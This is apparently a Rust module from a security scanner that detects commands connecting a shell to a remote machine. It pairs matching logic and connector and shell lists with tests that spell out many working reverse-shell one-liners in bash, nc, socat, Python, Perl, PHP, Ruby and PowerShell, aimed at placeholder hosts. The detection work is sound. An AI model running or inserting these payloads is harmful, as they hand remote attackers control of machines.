//! Commands that connect a shell to another machine, so that its owner can run any command here.
//!
//! A connection alone is common: `(echo > /dev/tcp/db/5432)` waits for a port. It is found only together with a shell.

use crate::command_text::command_around;
use crate::downloads::{is_shell, names_shell, program_name};
use crate::span::Span;

/// Bytes that are read on each side of a word.
const NEAR: usize = 800;
/// Programs that connect their input and output to another machine.
const CONNECTORS: [&str; 8] = [
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "nc.exe",
    "telnet",
    "s_client",
];
/// Texts of a program that start a shell.
const SHELLS: [&str; 12] = [
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "sh -i",
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
    "cmd.exe",
    "\"cmd\"",
    "'cmd'",
    "powershell",
];

/// Whether the command or the program around a word connects a shell to another machine.
pub(crate) fn connects_shell(text: &str, word: Span) -> bool {
    let from = text.floor_char_boundary(word.start.saturating_sub(NEAR));
    let to = text.floor_char_boundary(word.end.saturating_add(NEAR));
    let near = &text[from..to];
    let at = word.start - from;
    match word.of(text) {
        "/dev/tcp/" | "/dev/udp/" => redirects_shell(near, at),
        "socat " => runs_in_socat(command_at(near, at).1),
        word => {
            runs_in_program(near, word) || {
                let command = command_at(near, at).1.replace("\\\n", " ");
                pipes_shell(&command) || executes_shell(&command)
            }
        }
    }
}

/// Returns the command at a byte, and the byte at which it begins.
fn command_at(text: &str, at: usize) -> (usize, &str) {
    let command = command_around(text, Span::at(at), NEAR);
    (command.start, command.of(text))
}

/// `bash -i >& /dev/tcp/HOST/PORT 0>&1`, and `exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5`. Byte `at` is the start
/// of `/dev/tcp/`.
fn redirects_shell(text: &str, at: usize) -> bool {
    let mut parts = text[at..].split('/').skip(3);
    let (host, port) = (parts.next().unwrap_or_default(), parts.next());
    let is_port = |port: &str| {
        port.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '$' | '{' | '<'))
    };
    // A pattern that searches for such commands has no port.
    if host.is_empty() || host.contains('\n') || !port.is_some_and(is_port) {
        return false;
    }
    let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
    let before = text[line..at].trim_end_matches(['"', '\'', ' ']);
    if ends_with_shell(before) {
        return true;
    }
    let Some(opened) = before.strip_suffix("<>") else {
        return false;
    };
    let name = opened.trim_end_matches(|c: char| c.is_ascii_alphanumeric() || "_{}".contains(c));
    let name = opened[name.len()..].trim_matches(['{', '}']);
    let is_number = name.chars().all(|c| c.is_ascii_digit());
    let uses = if is_number {
        vec![format!("<&{name}")]
    } else {
        vec![
            format!("<&${name}"),
            format!("<&${{{name}}}"),
            format!("<&\"${name}"),
        ]
    };
    !name.is_empty()
        && uses
            .iter()
            .flat_map(|used| text[at..].match_indices(used.as_str()))
            .any(|(used, word)| reads_commands(text, at + used, word.len()))
}

/// Whether what is read at byte `at` is run: `sh <&5`, `cat <&5 | sh`, `while read line; do $line; done <&5`.
fn reads_commands(text: &str, at: usize, length: usize) -> bool {
    let (start, command) = command_at(text, at);
    let rest = command.get(at + length - start..).unwrap_or_default();
    let piped = rest.split('|').nth(1).is_some_and(is_shell);
    let loops = ["do $", "do eval", "do \"$", "eval \"$"];
    ends_with_shell(&text[start..at])
        || piped
        || command.contains("read ") && loops.iter().any(|start| command.contains(start))
}

/// Whether the last command of a text is a shell that reads its input: `bash -i >&`, `/bin/sh 2>&1 <`.
fn ends_with_shell(before: &str) -> bool {
    let is_redirect = |word: &str| word.chars().all(|c| "0123456789<>&-".contains(c));
    let before = before.trim_end_matches(|c: char| "0123456789<>& ".contains(c));
    let mut words = before.split_whitespace().rev();
    let word = words.find(|word| {
        let is_option = word.starts_with('-') && !word.contains('c');
        !is_option && !is_redirect(word)
    });
    word.is_some_and(starts_shell)
}

/// Whether a word is the name of a shell: `sh`, `'bash`, `x=$(/bin/sh`, `cmd.exe`.
fn starts_shell(word: &str) -> bool {
    let word = word
        .rsplit([';', '(', '`', '"', '\''])
        .find(|word| !word.is_empty());
    let word = word.unwrap_or_default();
    names_shell(word)
        || matches!(
            program_name(word).as_str(),
            "cmd" | "cmd.exe" | "powershell" | "powershell.exe"
        )
}

/// `sh -i 2>&1 | nc HOST PORT`, `nc HOST PORT | sh`.
fn pipes_shell(command: &str) -> bool {
    let parts: Vec<&str> = command.split('|').collect();
    parts.windows(2).any(|pair| {
        let last = pair[0].rsplit([';', '(']).next().unwrap_or_default();
        let last = last.rsplit("&&").next().unwrap_or_default();
        let next = pair[1].split([';', ')']).next().unwrap_or_default();
        connects(last) && is_shell(next) || is_bare_shell(last) && connects(next)
    })
}

/// Whether a command connects to another machine, or lets it connect.
fn connects(command: &str) -> bool {
    arguments(command).is_some_and(|mut words| words.next().is_some())
}

/// Returns the arguments of a program that connects to another machine.
fn arguments(command: &str) -> Option<impl Iterator<Item = &str>> {
    let mut words = command.split_whitespace();
    words
        .by_ref()
        .find(|word| {
            let word = word.rsplit([';', '"', '\'', '`', '(']).next();
            CONNECTORS.contains(&program_name(word.unwrap_or_default()).as_str())
        })
        .map(|_| words)
}

/// Whether a command is a shell without a script: `/bin/sh`, `bash -i 2>&1`, `sh < /tmp/f`.
fn is_bare_shell(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let is_named = words
        .by_ref()
        .find(|word| !matches!(*word, "exec" | "sudo" | "env"));
    let mut is_target = false;
    is_named.is_some_and(starts_shell)
        && words.all(|word| {
            let was_target = std::mem::replace(&mut is_target, word.ends_with(['<', '>']));
            let digits = word.trim_start_matches(|c: char| c.is_ascii_digit());
            let is_option = word.starts_with('-') && !word.contains('c');
            was_target || is_option || digits.starts_with(['<', '>', '&'])
        })
}

/// `nc -e /bin/sh HOST PORT`, `ncat HOST PORT --exec cmd.exe`.
fn executes_shell(command: &str) -> bool {
    command
        .split(['|', ';'])
        .filter_map(arguments)
        .any(|words| {
            let words: Vec<&str> = words.collect();
            let pairs = words.windows(2).any(|pair| {
                let short = pair[0].strip_prefix('-').unwrap_or_default();
                let is_short =
                    short.len() < 8 && !short.starts_with('-') && short.ends_with(['e', 'c']);
                let is_long = matches!(pair[0], "--exec" | "--sh-exec");
                (is_short || is_long) && starts_shell(pair[1])
            });
            let long = words.iter().filter_map(|word| word.split_once("exec="));
            pairs || long.into_iter().any(|(_, shell)| starts_shell(shell))
        })
}

/// `socat TCP:HOST:PORT EXEC:/bin/sh`.
fn runs_in_socat(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let networks = ["tcp", "udp", "openssl", "sctp"];
    let starts = ["exec:", "system:"].into_iter();
    networks.iter().any(|network| lower.contains(network))
        && starts
            .flat_map(|start| lower.split(start).skip(1))
            .any(|rest| {
                let rest = rest.trim_start_matches(['"', '\'', '\\']);
                starts_shell(rest.split([' ', ',', '"', '\'']).next().unwrap_or_default())
            })
}

/// Whether a program that names this word connects a shell.
fn runs_in_program(near: &str, word: &str) -> bool {
    let has = |texts: &[&str]| texts.iter().any(|text| near.contains(text));
    let connects = has(&["connect(", "accept(", "create_connection("]);
    match word {
        "pty.spawn(" => has(&["socket"]) && connects,
        "dup2(" => has(&["socket", "Socket"]) && connects && has(&SHELLS),
        "STDIN,\">&" | "STDIN, \">&" => has(&["socket", "Socket"]) && has(&SHELLS),
        "fsockopen(" => has(&SHELLS),
        "TCPSocket" => has(&SHELLS) || has(&["popen("]),
        ".stdin)" => has(&["connect(", "Socket("]) && has(&[".pipe("]) && has(&["spawn(", "exec("]),
        "ets.TCPClient" | "ets.TcpClient" => {
            has(&["GetStream"])
                && (has(&["iex ", "iex(", "Invoke-Expression"])
                    || has(&["cmd.exe", "powershell.exe"]))
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::{Topic, hits};

    fn found(text: &str) -> bool {
        hits(text).any(|(topic, span)| topic == Topic::ReverseShell && connects_shell(text, span))
    }

    #[test]
    fn connected_shell_is_found() {
        for text in [
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "bash -c 'bash -i >& /dev/tcp/acme.io/4444 0>&1'",
            "sh -i 5<> /dev/tcp/10.0.0.1/44 0<&5 1>&5 2>&5",
            "/bin/bash -l > /dev/udp/$H/$P 0<&1 2>&1",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/44; sh <&196 >&196 2>&196",
            "exec 5<>/dev/tcp/10.0.0.1/44\ncat <&5 | while read line; do $line 2>&5 >&5; done",
            "exec {fd}<>/dev/tcp/10.0.0.1/44\nsh <&$fd >&$fd",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc acme.io 4444 > /tmp/f",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 44 >/tmp/f",
            "mkfifo /tmp/f\nnc acme.io 44 0</tmp/f | /bin/sh >/tmp/f 2>&1",
            "cat /tmp/f \\\n  | sh -i 2>&1 \\\n  | nc acme.io 4444 > /tmp/f",
            "nc -e /bin/sh 10.0.0.1 4444",
            "/bin/nc 10.0.0.1 4444 -e bash",
            "ncat --ssl acme.io 443 --exec cmd.exe",
            "ncat --exec=/bin/bash acme.io 443",
            "nc -lvp 4444 -e /bin/sh",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.io:1 > /tmp/s",
            "telnet acme.io 44 | /bin/bash | telnet acme.io 45",
            "socat TCP:acme.io:44 EXEC:/bin/sh",
            "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
            "python -c 'import socket,pty;s=socket.socket();s.connect((\"a.io\",1));pty.spawn(\"/bin/sh\")'",
            "import socket, os\ns = socket.create_connection(a)\nos.dup2(s.fileno(), 0)\nrun([\"/bin/sh\"])",
            "perl -e 'use Socket;connect(S,$i);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"a.io\",44);exec(\"/bin/sh -i <&3 >&3\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"a.io\",44).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
            "$c = New-Object System.Net.Sockets.TCPClient('a.io',44);$s=$c.GetStream();iex $d",
        ] {
            assert!(found(text), "{text}");
        }
    }

    #[test]
    fn connection_without_a_shell_is_allowed() {
        for text in [
            "timeout 1 bash -c '</dev/tcp/db/5432'",
            "(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1 && echo up",
            "bash -c \"cat < /dev/null > /dev/tcp/db/5432\"",
            "exec 3<>/dev/tcp/acme.io/80; echo GET >&3; cat <&3",
            "./report.sh | nc metrics.acme.io 2003",
            "bash report.sh > /dev/tcp/acme.io/80",
            "echo stats | nc localhost 11211 | grep x",
            "until nc -z $DATABASE_HOST $DATABASE_PORT; do sleep 1; done",
            "sh -c \"until nc -z db 5432; do sleep 1; done\"",
            "nc -c localhost 25",
            "socat TCP-LISTEN:80,fork TCP:acme.io:80",
            "import pty\npty.spawn(\"/bin/bash\")",
            "grep -rE 'bash -i.*/dev/tcp/[^/]+/[0-9]+' .",
            "the sync command runs sh | in async mode",
        ] {
            assert!(!found(text), "{text}");
        }
    }
}
